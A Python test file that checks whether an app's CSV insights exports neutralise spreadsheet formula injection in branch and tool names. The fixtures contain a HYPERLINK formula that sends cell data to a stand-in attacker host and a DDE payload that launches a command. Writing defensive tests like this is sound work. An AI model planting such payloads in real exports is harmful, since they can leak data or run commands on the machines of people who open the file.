"""CSV formula injection in insights exports: a branch or tool name that a spreadsheet
would run comes out as text, in the page's CSV and the API's ``?export=`` alike (docs/security.md)."""

from __future__ import annotations

import csv
import io

import pytest

from sessions_app.csv_export import csv_text
from tests.client.transcript_builder import TranscriptBuilder

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.fixture
def poisoned(world, ingest):
    raw = TranscriptBuilder().prompt("run it").tool_call(DDE, {"x": 1}, result="ok").assistant_text("ok").turn_end()
    ingest(world.project, world.member, raw=raw.build(), seed="poisoned", feature_branch=HYPERLINK)
    return world


def test_csv_export_defuses_formula_injection_in_branch_and_tool_names(poisoned, client, api_as) -> None:
    world = poisoned
    client.force_login(world.viewer)
    base = f"/p/{world.project.slug}/insights.csv?chart="
    api = f"/api/v1/projects/{world.project.slug}/insights?export="

    branches = client.get(base + "busiest_branches").content
    assert _rows(branches)[0]["branch"] == "'" + HYPERLINK
    assert api_as(world.viewer).get(api + "busiest_branches").content == branches

    tools = client.get(base + "tool_usage").content
    assert _rows(tools)[0]["tool"] == "'" + DDE
    assert api_as(world.viewer).get(api + "tool_usage").content == tools


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "\u00a0@SUM(A1)"], ids=repr
)
def test_every_formula_trigger_is_prefixed_with_a_quote(cell: str) -> None:
    [row] = list(csv.reader(io.StringIO(csv_text([{"name": cell}]), newline="")))[1:]
    assert row == ["'" + cell]


def test_plain_text_and_numbers_are_left_alone() -> None:
    text = csv_text([{"name": "feat/x", "calls": -3, "rate": 0.25, "note": "a=b"}])
    assert text.splitlines() == ["name,calls,rate,note", "feat/x,-3,0.25,a=b"]
